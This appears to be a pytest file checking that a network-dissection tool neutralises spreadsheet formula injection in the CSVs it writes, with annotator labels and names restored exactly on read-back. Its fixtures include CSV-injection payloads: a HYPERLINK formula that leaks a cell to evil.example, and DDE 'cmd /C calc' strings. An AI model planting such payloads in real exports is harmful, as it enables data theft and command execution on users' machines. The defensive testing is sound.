"""Text from outside that a spreadsheet would run: neutralised in every CSV, intact elsewhere."""

from __future__ import annotations

import csv
import html
import json
import shutil
import subprocess
import warnings
from pathlib import Path

import pandas as pd
import pytest

from dissect.annotation import export_annotation, import_answers, read_raw
from dissect.cli import main
from dissect.dissection import Dissection
from dissect.images import Preprocess
from dissect.io import neutralise, read_csv, restore, write_csv
from dissect.labels import read_labels
from dissect.streaming import run_dissection

HARNESS = Path(__file__).parents[1] / "fixtures" / "annotation" / "page_harness.js"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd"]
WORKER = "-2+3+cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def template(tmp_path_factory):
    from conftest import TINY_SPEC, make_image_folder

    root = tmp_path_factory.mktemp("formula")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return run_dissection(
            TINY_SPEC,
            str(make_image_folder(root / "images")),
            root / "out",
            ["conv2"],
            topk=3,
            preprocess=Preprocess(32, (0.5, 0.5, 0.5), (0.25, 0.25, 0.25)),
            progress=False,
        )


@pytest.fixture
def dissection(template, tmp_path):
    return Dissection(shutil.copytree(template.directory, tmp_path / "copy"))


def _cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _no_formula(path: Path) -> None:
    dangerous = [cell for cell in _cells(path) if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not dangerous, f"{path.name}: {dangerous}"


def test_crowd_labels_and_names_are_neutralised_on_write(dissection, tmp_path, capsys):
    answers = tmp_path / "answers.csv"
    pd.DataFrame(
        {
            "layer": ["conv2"] * 3,
            "unit": [0, 1, 2],
            "label": FORMULAS,
            "category": ["object"] * 3,
            "precision": [1.0] * 3,
            "annotator": [WORKER] * 3,
        }
    ).to_csv(answers, index=False)
    import_answers(dissection, [answers])
    assert main(["stats", str(dissection.directory)]) == 0
    for name in ("labels.csv", "annotations_raw.csv", "annotators.csv", "concepts.csv"):
        assert dissection.path(name).is_file(), name
        _no_formula(dissection.path(name))
    # read back, the text is what the annotators wrote
    labels = read_labels(dissection.directory)["label"]  # labels are kept in lower case
    assert sorted(labels) == sorted(text.lower() for text in FORMULAS)
    assert set(read_raw(dissection)["worker"]) == {WORKER}
    assert main(["report", str(dissection.directory)]) == 0
    page = dissection.path("report", "index.html").read_text()
    shown = html.escape(FORMULAS[0].lower())
    assert shown in page and f"'{shown}" not in page and f"&#x27;{shown}" not in page
    capsys.readouterr()


@pytest.mark.skipif(shutil.which("node") is None, reason="needs node to run the page's script")
def test_offline_page_saves_neutralised_answers_that_import(dissection, tmp_path):
    export_annotation(dissection, "html", ["conv2"], [0], sentinels=0, progress=False)
    page = dissection.path("annotation", "html", "annotate.html").read_text()
    script = tmp_path / "page.js"
    script.write_text(page.split("<script>")[1].split("</script>")[0])
    task = page.split('data-task="')[1].split('"')[0]
    state = {
        "annotator": WORKER,
        "tasks": [
            {
                "task": task,
                "layer": "conv2",
                "unit": 0,
                "shown": 3,
                "label": FORMULAS[0],
                "type": "object",
                "mismatches": [],
            }
        ],
    }
    saved = subprocess.run(
        ["node", str(HARNESS), str(script), json.dumps(state)],
        capture_output=True,
        text=True,
        check=True,
        timeout=20,
    ).stdout
    answers = tmp_path / "annotations.csv"
    answers.write_text(saved)
    _no_formula(answers)
    labels = import_answers(dissection, [answers])
    assert list(labels["label"]) == [FORMULAS[0].lower()]
    assert set(read_raw(dissection)["worker"]) == {WORKER}


def test_write_csv_round_trips_exactly(tmp_path):
    texts = [*FORMULAS, "'=already quoted", "''+two", "-", "plain", "it's", "'", "", "\tTab"]
    frame = pd.DataFrame({"text": texts, "number": range(len(texts))})
    write_csv(tmp_path / "t.csv", frame)
    _no_formula(tmp_path / "t.csv")
    back = read_csv(tmp_path / "t.csv", keep_default_na=False)
    assert list(back["text"]) == texts and list(back["number"]) == list(range(len(texts)))
    assert all(restore(neutralise(text)) == text for text in texts)
